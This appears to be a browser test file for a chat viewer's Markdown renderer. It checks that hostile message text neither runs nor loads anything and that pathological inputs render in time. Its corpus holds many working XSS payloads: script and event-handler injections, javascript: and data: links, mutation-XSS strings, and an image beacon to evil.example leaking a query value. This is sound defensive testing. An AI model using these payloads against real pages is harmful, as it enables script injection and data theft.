// What models and strangers write can neither run nor load anything, and never hangs the page.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { lexer } from '../../src/page/fences.js';
import { fileOf, pageTest, say } from './browser.mjs';

const OUT = 'https://evil.example';
const corpus = [
    '<script>window.hit = 1</script>', `<img src=x onerror="window.hit=1">`,
    `<svg onload="window.hit=1"><script>window.hit=1</script></svg>`,
    `<iframe src="${OUT}"></iframe><object data="${OUT}"></object><embed src="${OUT}">`,
    `<meta http-equiv="refresh" content="0;url=${OUT}"><base href="${OUT}">`,
    `<form action="${OUT}"><button autofocus onfocus="window.hit=1">x</button></form>`,
    `<style>@import url(${OUT}/a.css); body{background:url(${OUT}/b)}</style>`,
    `<link rel="stylesheet" href="${OUT}/c.css"><a href="javascript:window.hit=1">x</a>`,
    '[x](javascript:window.hit=1) [y](JaVaScRiPt:window.hit=1) [z](data:text/html,<script>1</script>)',
    '[a](vbscript:x) [b](blob:x) [c](file:///etc/passwd) <javascript:window.hit=1>',
    '[x](java\u0000script:window.hit=1) [y](&#106;avascript:window.hit=1) [z](\u0001javascript:1)',
    `![a](${OUT}/pixel.png?q=secret) ![b](data:image/svg+xml,<svg onload=alert(1)>) ![c][r]\n\n[r]: ${OUT}/r`,
    `[![a](${OUT}/in-link.png)](${OUT})`, '```html\n<script>window.hit=1</script>\n```',
    '| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | `</td>` |',
    '- [x] <b onclick="window.hit=1">x</b>\n  > <i style="position:fixed">y</i>',
    'a\u202egnp.exe\u2066 b\u200b', '`\u202e right to left`', '&lt;script&gt;window.hit=1&lt;/script&gt;',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`, '<x onpointerenter=window.hit=1 style=all:initial>',
    `<details open ontoggle=window.hit=1>x</details><video><source onerror=window.hit=1></video>`,
    `<input autofocus onfocus=window.hit=1><marquee onstart=window.hit=1>x</marquee>`,
    `<svg><use href="${OUT}/u.svg#x"/><animate onbegin=window.hit=1 attributeName=x dur=1s /></svg>`,
    `<template shadowrootmode="open"><script>window.hit=1</script></template><slot>x</slot>`,
    '[x](  javascript:window.hit=1 ) [y](<javascript:window.hit=1>) [z](javascript\\:window.hit=1)',
    '[x](JAVASCRIPT&colon;window.hit=1) [y](javas\tcript:window.hit=1) [z](//evil.example/p)',
    `[x]: javascript:window.hit=1 "t"\n\n[x] [![x]][x]`, `<https://evil.example/<script>window.hit=1</script>>`,
    'www.evil.example/" onmouseover="window.hit=1 and https://evil.example/\'><img/src=x>',
    `![](javascript:window.hit=1) ![x](//evil.example/y.png "t\" onload=\"window.hit=1")`,
    '```"><script>window.hit=1</script>\ncode\n```', '~~~html onload=window.hit=1\n<b>x</b>\n~~~',
    '| a |\n|:-:" onclick="window.hit=1|\n| b |', '# <h1 onclick=window.hit=1>{#app onclick=1}</h1>',
    '1e999. x\n99999999999999999999. y', '[^1]: <script>window.hit=1</script>\n\n[^1]',
    '$$\\href{javascript:window.hit=1}{x}$$ \\(\\htmlData{x=1}{y}\\)', '\u0000 \ufffe \uffff',
    `<a href="#/s/x" id="app">x</a>`, 'a\u2028b\u2029c\u0085d', '\u202e\u2066'.repeat(200),
    '<a href="#/s/x" id="app">x</a><div id="main">y</div>', '__proto__ [constructor](constructor)',
];
const TAGS = new Set(['P', 'SPAN', 'A', 'CODE', 'PRE', 'FIGURE', 'FIGCAPTION', 'BUTTON', 'TABLE',
    'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'STRONG', 'EM', 'DEL', 'HR',
    'BR', 'DIV', 'H2', 'H3', 'H4', 'H5', 'H6']);

pageTest('hostile texts become harmless elements', async ({ open, api, s }) => {
    const id = await s.session({ title: corpus[0], key: corpus[1] });
    const tool = { role: 'tool', parts: [{ type: 'tool_result', call_id: 'c', name: corpus[1],
        output: corpus.join('\n') }] };
    await api('POST', `sessions/${id}/messages`, { messages: [...corpus.flatMap((content) => [
        { role: 'user', content }, { role: 'assistant', content, model: corpus[1] }]),
    { role: 'assistant', parts: [{ type: 'reasoning', text: corpus[0] },
        { type: 'tool_call', call_id: 'c', name: corpus[1], arguments: corpus[0] }] }, tool] });
    const tab = await open(`#/s/${id}`);
    await tab.evaluate(() => {
        window.violations = [];
        document.addEventListener('securitypolicyviolation', (event) =>
            window.violations.push(event.violatedDirective));
    });
    const last = 2 * corpus.length + 2;
    for (let seq = 1; seq <= last; seq += 6) {
        await tab.goto(`${new URL(tab.url()).origin}/#/s/${id}/m/${seq}`);
        await tab.waitForSelector(`.msg[data-seq="${seq}"]`);
        await tab.$$eval('details', (all) => all.forEach((one) => { one.open = true; }));
        const bad = await tab.$$eval('.md *', (all) => all.flatMap((one) =>
            [one.tagName, ...(one.hasAttribute('style') ? ['style'] : []),
                ...one.getAttributeNames().filter((name) => name.startsWith('on')),
                ...(one.href && !/^(https?|mailto):/.test(one.href) ? [one.href] : [])]));
        assert.deepEqual([...new Set(bad)].filter((one) => !TAGS.has(one)), []);
    }
    assert.equal(await tab.evaluate(() => window.hit), undefined);
    assert.deepEqual(await tab.evaluate(() => window.violations), []);
    assert.equal(await tab.textContent('.session .name'), corpus[0]);
});

pageTest('hostile texts in the inspector and the palette are only text', async ({ open, api, s }) => {
    const [script, image] = corpus;
    const id = await s.session({ title: `${image} \u202etxt`, key: script });
    await api('POST', `sessions/${id}/messages`, { messages: [{ role: 'system', content: script },
        ...corpus.map((content, i) => ({ role: i % 2 ? 'assistant' : 'user', content, model: image })),
        { role: 'user', content: 'last' }] });
    for (const at of [10, 20])
        await api('POST', `sessions/${id}/compact`, { cut_seq: at, summary: `${at}\n${corpus.join('\n')}` });
    await api('POST', `sessions/${id}/fork`, { at_seq: 4, title: image });
    const tab = await open(`#/s/${id}?p=window&full=1&vs=without:2`);
    await tab.evaluate(() => {
        window.violations = [];
        document.addEventListener('securitypolicyviolation', (event) =>
            window.violations.push(event.violatedDirective));
    });
    await tab.waitForSelector('.differs');
    for (const kind of ['summary', '#21']) {
        await tab.click(`.window > .items .item:has-text("${kind}") [aria-label^="Open"] >> nth=0`);
        await tab.waitForSelector('dialog pre');
        await tab.keyboard.press('Escape');
    }
    await tab.goto(`${new URL(tab.url()).origin}/#/s/${id}/m/5?p=marks`);
    await tab.waitForSelector('.family a:has-text("onerror")');
    await tab.$$eval('.mark details', (all) => all.forEach((one) => { one.open = true; }));
    await tab.waitForSelector('.mark blockquote:has-text("window.hit")');
    await tab.click('.mark button:has-text("Compare with mark")');
    await tab.waitForSelector('dialog .c-added');
    await tab.keyboard.press('Escape');
    await tab.waitForSelector('.msg[data-seq="5"][data-sent="summarized"]');
    await tab.focus('.msg[data-seq="5"]');
    await tab.keyboard.press('y');
    await tab.waitForSelector('dialog blockquote');
    await tab.keyboard.press('Escape');
    await tab.keyboard.press('Control+k');
    await tab.keyboard.type('onerror');
    await tab.waitForSelector('.palette li');
    assert.equal(await tab.$$eval('dialog :is(img, script, iframe, form, style, link)', (all) =>
        all.length), 0);
    assert.equal(await tab.evaluate(() => window.hit), undefined);
    assert.deepEqual(await tab.evaluate(() => window.violations), []);
});

pageTest('an address with more than its text shows is asked about', async ({ open, s, api, context }) => {
    const id = await s.session({});
    const secret = `${OUT}/?q=${'s'.repeat(200)}`;
    await api('POST', `sessions/${id}/messages`, { role: 'assistant',
        content: `[docs](${secret}) and [https://bank.example](${OUT}/x)` });
    const tab = await open(`#/s/${id}`);
    for (const text of ['docs', 'https://bank.example']) {
        await tab.click(`.md a:text-is("${text}")`);
        assert.match(await tab.textContent('dialog .address'), /^https:\/\/evil\.example\//);
        await tab.click('dialog button:text-is("Cancel")');
        await tab.waitForSelector('dialog', { state: 'detached' });
    }
    assert.equal(context.pages().length, 1);
});

const nasty = {
    emphasis: '**a '.repeat(5000), stars: '*'.repeat(20000), underscores: '_a'.repeat(10000),
    brackets: '['.repeat(20000), links: '[a]('.repeat(5000), images: '!['.repeat(10000),
    ticks: '`'.repeat(9999) + 'a', 'code spans': '`a ``b '.repeat(4000), angles: '<'.repeat(20000),
    comments: '<!--'.repeat(5000), tables: `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}`,
    rules: '- '.repeat(3000), lists: Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i % 60)}- x`).join('\n'),
    entities: '&amp;'.repeat(10000), backslashes: '\\'.repeat(20001), tildes: '~~a '.repeat(5000),
    definitions: '[a]: '.repeat(5000), headings: '# '.repeat(5000), spaces: `a${' '.repeat(30000)}b`,
    fences: '```\n~~~\n'.repeat(4000),
};
test('without the Markdown parser there are paragraphs and fenced code', () => {
    const kinds = (text) => {
        const tokens = lexer(text);
        assert.equal(tokens.map((token) => token.raw).join(''), text);
        return tokens.filter((token) => token.type !== 'space').map((token) =>
            [token.type, token.text, ...(token.lang ? [token.lang] : [])]);
    };
    assert.deepEqual(kinds('one\ntwo\n\n# three\n```js\nlet a;\n\n```\nend'), [
        ['paragraph', 'one\ntwo'], ['paragraph', '# three'], ['code', 'let a;\n', 'js'],
        ['paragraph', 'end']]);
    assert.deepEqual(kinds('~~~~\n~~~\n~~~~'), [['code', '~~~']]);
    assert.deepEqual(kinds('```\nnot closed'), [['code', 'not closed']]);
    assert.deepEqual(kinds('a ```b```'), [['paragraph', 'a ```b```']]);
    assert.deepEqual(kinds(''), []);
    assert.deepEqual(kinds('\n\n\na\n\n\n```\n```\n\n'), [['paragraph', 'a'], ['code', '']]);
});

pageTest('a build without the parser shows text and code', { prepare: (dir) => {
    fs.mkdirSync(path.join(dir, 'work'));
    fs.copyFileSync(fileOf('fences.js'), path.join(dir, 'work', 'marked.js'));
}, server: { config: 'server:\n  page_dir: work\n' } }, async ({ open, api, s }) => {
    const id = await s.session({});
    await api('POST', `sessions/${id}/messages`, { role: 'assistant',
        content: '**one**\n\n```js\nlet a;\n```\n\n<b>two</b>' });
    const tab = await open(`#/s/${id}`);
    await tab.waitForSelector('.md .code .c-key:text-is("let")');
    assert.deepEqual(await tab.$$eval('.md > p', (all) => all.map((one) => one.innerHTML)),
        ['**one**', '&lt;b&gt;two&lt;/b&gt;']);
    await say(tab, 'go <<say a\n\nb\n\n```\nc\n```\n\nd>><<chunk 1>>');
    await tab.waitForFunction(() => document.querySelectorAll('.msg:not(.live) .code').length === 2);
    assert.deepEqual(await tab.$$eval('.msg:last-child .md > *', (all) => all.map((one) =>
        one.querySelector('code')?.textContent ?? one.textContent)), ['a', 'b', 'c', 'd']);
});

const NASTY_MS = 2000; // hundreds of times the usual time, for a busy machine

pageTest('nasty patterns are written in time', async ({ open }) => {
    const tab = await open();
    for (const [name, text] of Object.entries(nasty)) {
        const ms = await tab.evaluate(async (source) => {
            const url = new URL('markdown.js', document.querySelector('script').src);
            const { markdown, MarkdownStream } = await import(url);
            const began = performance.now();
            markdown(source);
            const stream = new MarkdownStream();
            for (let i = 0; i < 10; i++)
                stream.push(source.slice(i * source.length / 10, (i + 1) * source.length / 10));
            return (performance.now() - began) / 11;
        }, text);
        assert.ok(ms < NASTY_MS, `${name}: ${Math.round(ms)} ms`);
    }
});

pageTest('a text in pieces becomes the same elements as the whole text', async ({ open }) => {
    const tab = await open();
    const text = fs.readFileSync(new URL('../../docs/page.md', import.meta.url), 'utf8') +
        '\n```js\nlet a = 1;\n```\n\n1. one\n2. two\n\n   more\n\n> quote\n> more\n\nend **bold**';
    for (const size of [1, 7, 100]) {
        const [whole, pieces] = await tab.evaluate(async ([source, step]) => {
            const url = new URL('markdown.js', document.querySelector('script').src);
            const { markdown, MarkdownStream } = await import(url);
            const stream = new MarkdownStream();
            for (let i = 0; i < source.length; i += step) stream.push(source.slice(i, i + step));
            const words = (one) => one.textContent.replace(/\s+/g, ' ').trim();
            return [words(markdown(source)), words(stream.element)];
        }, [text, size]);
        assert.equal(pieces, whole);
    }
});
